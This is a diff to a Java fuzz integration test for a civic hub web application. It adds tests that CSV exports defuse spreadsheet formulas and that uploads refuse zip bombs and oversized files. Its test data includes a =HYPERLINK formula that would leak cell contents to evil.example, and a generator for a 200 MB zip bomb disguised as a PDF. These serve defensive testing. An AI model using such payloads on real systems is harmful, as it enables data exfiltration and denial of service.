@@ -40,6 +40,7 @@ import java.util.regex.Pattern;
 import java.util.stream.Collectors;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /**
@@ -131,6 +132,112 @@ class FuzzIT {
         HubClient department = new HubClient("ru").from("203.0.113.65");
         department.signInAsDemo("department");
         refusedWithoutARow(department, "ru", "procurement/manage/tender.xhtml", "details", "procurement_tender");
+    }
+
+    @Test
+    void aNameThatASpreadsheetWouldRunAsAFormulaComesOutOfTheExportDefused() throws Exception {
+        HubClient founder = new HubClient("en").from("203.0.113.66");
+        founder.signInAsDemo("founder");
+        Matcher link = Pattern.compile("href=\"/hub/(incubator/project-edit\\.xhtml\\?id=\\d+)\"[^>]*>[^<]*OpenPermit")
+                .matcher(founder.get("incubator/my-projects.xhtml").body());
+        String edit = link.find() ? link.group(1) : "incubator/project-edit.xhtml?id="
+                + firstMatch(founder.get("incubator/my-projects.xhtml").body(), "project-edit\\.xhtml\\?id=(\\d+)");
+        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
+        String tagline = form(founder.get(edit).body(), "project").fields().stream().filter(f -> f.name().equals("project:tagline"))
+                .findFirst().orElseThrow().value();
+        try {
+            saveTagline(founder, edit, formula);
+
+            HttpResponse<String> csv = new HubClient().get("api/catalogue/projects.csv?q=OpenPermit");
+
+            assertEquals(200, csv.statusCode());
+            assertTrue(csv.body().contains(",OpenPermit,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\","), csv.body());
+            assertFalse(csv.body().contains(",=HYPERLINK("), "no cell begins with the formula: " + csv.body());
+        } finally {
+            saveTagline(founder, edit, tagline);
+        }
+    }
+
+    private static void saveTagline(HubClient founder, String edit, String tagline) throws Exception {
+        HtmlForm form = form(founder.get(edit).body(), "project");
+        HttpResponse<String> saved = founder.send("POST", form.action(), Fuzzer.body(form, Map.of("project:tagline",
+                URLEncoder.encode(tagline, StandardCharsets.UTF_8)), "project:save").getBytes(StandardCharsets.US_ASCII),
+                "Content-Type", "application/x-www-form-urlencoded");
+        assertTrue(saved.statusCode() == 302 || Fuzzer.errorMessages(saved.body()).isEmpty(), Fuzzer.errorMessages(saved.body()).toString());
+    }
+
+    @Test
+    void anUploadThatIsNoPdfOrTooLargeIsRefusedByItsContentAndSizeWithATranslatedMessage() throws Exception {
+        HubClient citizen = new HubClient("ru").from("203.0.113.67");
+        citizen.signInAsDemo("citizen");
+        long ideas = rows("idea");
+
+        HttpResponse<String> zipBomb = submitIdea(citizen, "deck.pdf", zipBomb());
+        HttpResponse<String> tooLarge = submitIdea(citizen, "scan.pdf", pdf(6 * 1024 * 1024));
+        HttpResponse<String> farTooLarge = submitIdea(citizen, "video.pdf", pdf(21 * 1024 * 1024));
+
+        assertTrue(Fuzzer.errorMessages(zipBomb.body()).contains("«deck.pdf» — не PDF и не изображение PNG или JPEG."),
+                "a renamed zip is no PDF, whatever it would inflate to: " + Fuzzer.errorMessages(zipBomb.body()));
+        assertTrue(Fuzzer.errorMessages(tooLarge.body()).stream().anyMatch(m -> m.contains("5") && CYRILLIC.matcher(m).matches()),
+                Fuzzer.errorMessages(tooLarge.body()).toString());
+        assertEquals(302, farTooLarge.statusCode(), "refused before it is read: " + farTooLarge.body());
+        assertTrue(farTooLarge.headers().firstValue("Location").orElse("").endsWith("/hub/error/too-large.xhtml"));
+        assertTrue(citizen.get("error/too-large.xhtml").body().contains("Хаб принимает файлы не больше 10 МБ"));
+        assertEquals(ideas, rows("idea"), "no idea was saved");
+        assertEquals(200, citizen.get("/health/ready").statusCode(), "the server is up");
+    }
+
+    /** Posts the idea form as a browser does (multipart), the idea itself in order and one file attached. */
+    private static HttpResponse<String> submitIdea(HubClient citizen, String fileName, byte[] content) throws Exception {
+        String page = citizen.get("ideas/submit.xhtml").body();
+        HtmlForm form = form(page, "idea");
+        String boundary = "----fuzz" + UUID.randomUUID();
+        java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
+        Map<String, String> fields = new LinkedHashMap<>();
+        fields.put("idea", "idea");
+        fields.put("idea:ideaTitle", "Broken street lights on Lenina street");
+        fields.put("idea:problem", "Half of the street lights on Lenina street have been dark since October.");
+        fields.put("idea:service_input", firstMatch(page, "(?s)name=\"idea:service_input\".*?<option value=\"([A-Z_]+)\""));
+        fields.put("idea:publish", "");
+        fields.put("jakarta.faces.ViewState", form.viewState());
+        fields.forEach((name, value) -> body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name
+                + "\"\r\n\r\n" + value + "\r\n").getBytes(StandardCharsets.UTF_8)));
+        body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"idea:file1\"; filename=\"" + fileName
+                + "\"\r\nContent-Type: application/pdf\r\n\r\n").getBytes(StandardCharsets.UTF_8));
+        body.writeBytes(content);
+        body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
+        return citizen.send("POST", form.action(), body.toByteArray(), "Content-Type", "multipart/form-data; boundary=" + boundary);
+    }
+
+    /** A zip that inflates to 200 MB of zeros, named like a PDF. */
+    private static byte[] zipBomb() throws Exception {
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
+            zip.setLevel(9);
+            zip.putNextEntry(new java.util.zip.ZipEntry("zeros.bin"));
+            byte[] zeros = new byte[1 << 20];
+            for (int i = 0; i < 200; i++) {
+                zip.write(zeros);
+            }
+            zip.closeEntry();
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] pdf(int size) {
+        byte[] pdf = new byte[size];
+        java.util.Arrays.fill(pdf, (byte) ' ');
+        System.arraycopy("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), 0, pdf, 0, 9);
+        return pdf;
+    }
+
+    private static HtmlForm form(String html, String id) {
+        return HtmlForm.of(html).stream().filter(f -> f.id().equals(id)).findFirst().orElseThrow(() -> new AssertionError("no form " + id));
+    }
+
+    private static String firstMatch(String text, String regex) {
+        Matcher matcher = Pattern.compile(regex).matcher(text);
+        return matcher.find() ? matcher.group(1) : "";
     }
 
     /** Fills the form with bad values in every field (the first text field oversized), presses its button, counts the table. */
@@ -262,9 +369,6 @@ class FuzzIT {
                 return;
             }
             Map<String, String> values = new LinkedHashMap<>();
-            for (Field field : fields) {
-                field.parameters().forEach(p -> values.put(p, URLEncoder.encode(field.value(), StandardCharsets.UTF_8)));
-            }
             values.put(dates.get(0).name(), "2031-06-30");
             values.put(dates.get(1).name(), "2030-01-01");
             inputs.add(where + " dates out of order");
@@ -365,8 +469,10 @@ class FuzzIT {
                 for (String parameter : field.parameters()) {
                     if (encoded.containsKey(parameter)) {
                         parameters.put(enc(parameter), encoded.get(parameter));
-                    } else if (field.kind() != Kind.FILE && (field.kind() != Kind.TICK || !field.value().isEmpty())) {
-                        parameters.put(enc(parameter), enc(field.value()));
+                    } else if (field.kind() != Kind.FILE && (field.kind() != Kind.TICK && field.kind() != Kind.CHOICE
+                            || !field.value().isEmpty())) {
+                        List<String> each = List.of(field.value().split(Pattern.quote(HtmlForm.MORE)));
+                        parameters.put(enc(parameter), each.stream().map(Fuzzer::enc).collect(Collectors.joining("&" + enc(parameter) + "=")));
                     }
                 }
             }
